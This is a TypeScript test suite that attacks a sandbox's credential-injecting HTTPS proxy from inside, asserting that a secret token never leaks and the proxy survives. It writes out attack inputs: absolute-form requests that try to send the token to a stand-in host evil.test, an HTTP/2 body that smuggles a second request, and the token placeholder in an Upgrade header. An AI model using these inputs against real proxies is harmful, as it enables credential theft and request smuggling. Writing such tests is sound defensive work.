/**
 * Escape suite, CREDENTIALS (review): attacks on the credential broker's interception from inside a
 * cloister, with a node client that speaks raw HTTP/1.1 and HTTP/2 through the proxy's CONNECT.
 * Each case says what the attacker tries and what must hold: the real value reaches only the rule's
 * host, in the rule's header, as an ordinary request; it never comes back into the cloister; the
 * guardian survives (a second request afterwards still works).
 */
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { existsSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import type { ServerResponse } from "node:http";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { createInstance, trustUpstreamCa, type CliResult, type TestInstance } from "../helpers/cloister.js";
import { createTestCa, startHttpsUpstream, type HttpsUpstream, type TestCa } from "../fixtures/upstreams.js";

const SECRET = `ghp_${randomBytes(27).toString("base64").replace(/[^A-Za-z0-9]/g, "x").slice(0, 36)}`;

/**
 * The client inside: `tunnel(alpn)` opens CONNECT api.test:PORT through $HTTPS_PROXY and TLS on it;
 * `raw1(text)` sends bytes over HTTP/1.1 and prints the response; `h2(headers, body?, opts?)` sends
 * one HTTP/2 request and prints `STATUS n` and the body (or `ERR ...`).
 */
const CLIENT = String.raw`
const net = require("net"), tls = require("tls"), http2 = require("http2");
const proxy = new URL(process.env.HTTPS_PROXY);
const auth = Buffer.from(decodeURIComponent(proxy.username) + ":" + decodeURIComponent(proxy.password)).toString("base64");
const HOST = process.env.API_HOST, PORT = Number(process.env.API_PORT), TOKEN = process.env.TOKEN;
function tunnel(alpn, host = HOST, port = PORT) {
  return new Promise((resolve, reject) => {
    const s = net.connect(Number(proxy.port), proxy.hostname, () => s.write("CONNECT " + host + ":" + port + " HTTP/1.1\r\nHost: " + host + ":" + port + "\r\nProxy-Authorization: Basic " + auth + "\r\n\r\n"));
    let buf = "";
    const on = (d) => {
      buf += d.toString("latin1");
      if (!buf.includes("\r\n\r\n")) return;
      s.off("data", on);
      if (!/^HTTP\/1.1 200/.test(buf)) return reject(new Error("CONNECT: " + buf.split("\r\n")[0]));
      const t = tls.connect({ socket: s, servername: host, ALPNProtocols: [alpn] }, () => resolve(t));
      t.on("error", reject);
    };
    s.on("data", on);
    s.on("error", reject);
  });
}
async function raw1(text, wait = 3000) {
  const t = await tunnel("http/1.1");
  t.write(text);
  let out = "";
  t.on("data", (d) => (out += d.toString("latin1")));
  await new Promise((r) => { t.on("close", r); t.on("end", r); setTimeout(r, wait); });
  t.destroy();
  console.log("RAW " + JSON.stringify(out));
  return out;
}
async function h2(headers, body, opts = {}) {
  const t = await tunnel("h2");
  const session = http2.connect("https://" + HOST + ":" + PORT, { createConnection: () => t });
  session.on("error", (e) => console.log("SESSIONERR " + e.message));
  return new Promise((resolve) => {
    let req;
    try { req = session.request(headers, opts); } catch (e) { console.log("ERR " + e.message); session.destroy(); return resolve(); }
    let out = "";
    req.on("response", (h) => console.log("STATUS " + h[":status"]));
    req.on("data", (d) => (out += d));
    req.on("error", (e) => console.log("ERR " + e.message));
    req.on("close", () => { console.log("BODY " + JSON.stringify(out)); session.close(); resolve(); });
    if (body !== undefined) req.end(body); else req.end();
    setTimeout(() => { req.close(); }, 8000);
  });
}
module.exports = { tunnel, raw1, h2, HOST, PORT, TOKEN };
`;

describe("escape/credentials: review", () => {
  let t: TestInstance;
  let ca: TestCa;
  let api: HttpsUpstream;
  /** What the origin answers, by path (default: 200 "ok"). */
  const answers: Record<string, (res: ServerResponse) => void> = {};

  const run = async (name: string, script: string): Promise<CliResult> => {
    writeFileSync(join(t.project, `${name}.cjs`), `const { tunnel, raw1, h2, HOST, PORT, TOKEN } = require("./client.cjs");\n(async () => {\n${script}\n})().catch((e) => console.log("FAIL " + e.message));\n`);
    const r = await t.cli(["run", "--resolve", "api.test=127.0.0.1", "--allow-private", `api.test:${api.port}`, "--secret", "TOKEN=gh", "--", "sh", "-c", `API_HOST=api.test API_PORT=${api.port} node ${name}.cjs`], { timeoutMs: 60_000 });
    if (process.env.ESCAPE_DEBUG) process.stderr.write(`--- ${name} (exit ${r.code})\n${r.stdout}${r.stderr}`);
    return r;
  };
  const guardianPid = () => (existsSync(join(t.home, "run", "guardian.pid")) ? Number(readFileSync(join(t.home, "run", "guardian.pid"), "utf8").trim()) : 0);
  const seen = (path: string) => api.requests.filter((q) => q.url.includes(path));
  const leaked = (pred: (url: string) => boolean) => api.requests.filter((q) => pred(q.url) && JSON.stringify(q).includes(SECRET));

  before(async () => {
    t = createInstance("credrev");
    ca = createTestCa();
    api = await startHttpsUpstream(ca, ["api.test"], {
      handler: (req, res) => {
        const answer = Object.entries(answers).find(([path]) => (req.url ?? "").startsWith(path))?.[1];
        if (answer) return answer(res);
        res.writeHead(200, { "content-type": "text/plain", "content-length": 3 }).end("ok\n");
      },
    });
    trustUpstreamCa(t.home, ca.certFile);
    const set = await t.cli(["secret", "set", "gh", "--host", `api.test:${api.port}`, "--header", "Authorization: Bearer {}"], { input: SECRET });
    assert.equal(set.code, 0, set.stderr);
    writeFileSync(join(t.project, "client.cjs"), CLIENT);
    const warm = await t.cli(["run", "--", "true"]);
    assert.equal(warm.code, 0, warm.stderr);
    t.canaries.secret = SECRET;
  });

  after(async () => {
    if (process.env.KEEP) console.log(t.home);
    else await t.teardown();
    await api?.close();
    if (ca) rmSync(ca.dir, { recursive: true, force: true });
  });

  it("positive control, absolute-form targets, odd HTTP/2 requests and a body longer than its content-length", async () => {
    const pid = guardianPid();
    const line = (path: string) => `"GET ${path} HTTP/1.1\\r\\nHost: " + HOST + ":" + PORT + "\\r\\nAuthorization: Bearer " + TOKEN + "\\r\\nConnection: close\\r\\n\\r\\n"`;
    const r = await run("requests", `
      await raw1(${line("/control-h1")});
      await h2({ ":path": "/control-h2", authorization: "Bearer " + TOKEN });
      // An origin server (nginx, most CDNs) routes an absolute-form request by the URL's authority,
      // not by Host: the value would go to whichever virtual host the URL names.
      await raw1(${line("https://evil.test/abs-h1")});
      await raw1(${line("http://evil.test/abs-h1-http")});
      await h2({ ":path": "https://evil.test/abs-h2", authorization: "Bearer " + TOKEN });
      await h2({ ":path": "*", ":method": "OPTIONS", authorization: "Bearer " + TOKEN });
      await h2({ ":path": "/ctl", "x-a": "a\\u0001b", authorization: "Bearer " + TOKEN });
      await h2({ ":path": "/sp ace", authorization: "Bearer " + TOKEN });
      await h2({ ":method": "CONNECT", ":authority": HOST + ":" + PORT, authorization: "Bearer " + TOKEN });
      // Smuggling: an HTTP/2 body longer than its content-length, forwarded over a kept-alive
      // HTTP/1.1 connection, would start a request of the attacker's that swallows the next one.
      await h2({ ":path": "/cl-short", ":method": "POST", "content-length": "2", authorization: "Bearer " + TOKEN }, "abGET /smuggled HTTP/1.1\\r\\nHost: api.test\\r\\nContent-Length: 2000\\r\\n\\r\\n");
      // The placeholder in a hop-by-hop header the guardian forwards as given (Upgrade).
      await raw1("GET /in-upgrade HTTP/1.1\\r\\nHost: " + HOST + ":" + PORT + "\\r\\nConnection: Upgrade\\r\\nUpgrade: x-" + TOKEN + "\\r\\n\\r\\n");
      await raw1(${line("/control-after")});`);
    const out = r.stdout + r.stderr;
    assert.match(r.stdout, /RAW "HTTP\/1.1 200/, out);
    assert.match(r.stdout, /STATUS 200/, out);
    assert.equal(seen("/control-h1")[0]?.headers.authorization, `Bearer ${SECRET}`, out);
    assert.equal(seen("/control-h2")[0]?.headers.authorization, `Bearer ${SECRET}`, out);
    assert.equal(seen("/control-after")[0]?.headers.authorization, `Bearer ${SECRET}`, out);
    assert.deepEqual(leaked((url) => !url.startsWith("/") && url !== "*").map((q) => q.url), [], `the origin got the value with a request target naming another host:\n${out}`);
    assert.ok(!/upgrade: x-ghp_/i.test(api.received.toString("latin1")) && seen("/in-upgrade").length === 0, `the placeholder went out in an Upgrade header:\n${out}`);
    assert.equal(seen("/smuggled").length, 0, `a request smuggled in an HTTP/2 body reached the origin:\n${out}`);
    assert.ok(!api.requests.some((q) => q.body.includes(SECRET)), "the value ended up in a request body");
    assert.equal(guardianPid(), pid, "the guardian died and was restarted");
  });

  it("an origin's response that HTTP/2 cannot carry (duplicate content-type, http2-settings, status 600) does not take the guardian down", async () => {
    const responses: Array<[string, (res: ServerResponse) => void]> = [
      ["/resp-dup", (res) => res.writeHead(200, { "content-type": ["text/plain", "text/html"], "content-length": 3 }).end("ok\n")],
      ["/resp-h2s", (res) => res.writeHead(200, { "http2-settings": "AAMAAABkAARAAAAA", "content-length": 3 }).end("ok\n")],
      ["/resp-600", (res) => res.writeHead(600, { "content-length": 3 }).end("ok\n")],
    ];
    for (const [path, answer] of responses) answers[path] = answer;
    const pid = guardianPid();
    const r = await run("responses", responses.map(([path]) => `await h2({ ":path": "${path}", authorization: "Bearer " + TOKEN }); await h2({ ":path": "/ok${path}", authorization: "Bearer " + TOKEN });`).join("\n"));
    const out = r.stdout + r.stderr;
    for (const [path] of responses) {
      assert.ok(seen(path).length > 0, `${path} did not reach the origin:\n${out}`);
      assert.ok(seen(`/ok${path}`).length > 0, `the guardian stopped serving after ${path}:\n${out}`);
    }
    assert.equal(guardianPid(), pid, `the guardian died and was restarted:\n${out}`);
  });

  it("a flood of requests inside one intercepted connection waits its turn (proxy.audit_rate): each is answered and audited, none faster than the rate", async () => {
    const file = join(t.home, "config", "config.yaml");
    const original = readFileSync(file, "utf8");
    const paced = original.replace(/^  audit_rate: 50$/m, "  audit_rate: 20").replace(/^  audit_burst: 5000$/m, "  audit_burst: 30");
    assert.ok(paced.includes("audit_rate: 20") && paced.includes("audit_burst: 30"), "the config template changed: update this test");
    const injected = async () => (await t.cli(["audit", "tail", "-n", "100000", "--json"])).stdout.split("\n").filter((l) => l.includes('"type":"credential.inject"')).length;
    const before = await injected();
    writeFileSync(file, paced);
    assert.equal((await t.cli(["guardian", "reload"])).code, 0);
    try {
      const started = Date.now();
      const r = await run("paced", `
        const http2 = require("http2");
        const s = await tunnel("h2");
        const session = http2.connect("https://" + HOST + ":" + PORT, { createConnection: () => s });
        const one = (i) => new Promise((resolve) => {
          const req = session.request({ ":path": "/paced-" + i, authorization: "Bearer " + TOKEN });
          let status = 0;
          req.on("response", (h) => (status = h[":status"]));
          req.on("data", () => undefined);
          req.on("error", () => resolve(0));
          req.on("close", () => resolve(status));
          req.end();
        });
        const statuses = await Promise.all(Array.from({ length: 80 }, (_, i) => one(i)));
        console.log("OK " + statuses.filter((s) => s === 200).length);
        session.close();`);
      const seconds = (Date.now() - started) / 1000;
      assert.match(r.stdout, /^OK 80$/m, r.stdout + r.stderr);
      assert.equal(seen("/paced-").length, 80);
      const records = (await injected()) - before;
      assert.equal(records, 80, "each request's injection is audited");
      // An upper bound only (a slow machine is slower still): 80 requests past a burst of 30 at 20 a
      // second take 2.5 s at the least, and the whole run took longer than that.
      assert.ok(seconds >= (80 - 30 - 2) / 20, `80 intercepted requests in ${seconds.toFixed(1)} s: they were not paced`);
    } finally {
      writeFileSync(file, original);
      assert.equal((await t.cli(["guardian", "reload"])).code, 0);
    }
  });
});
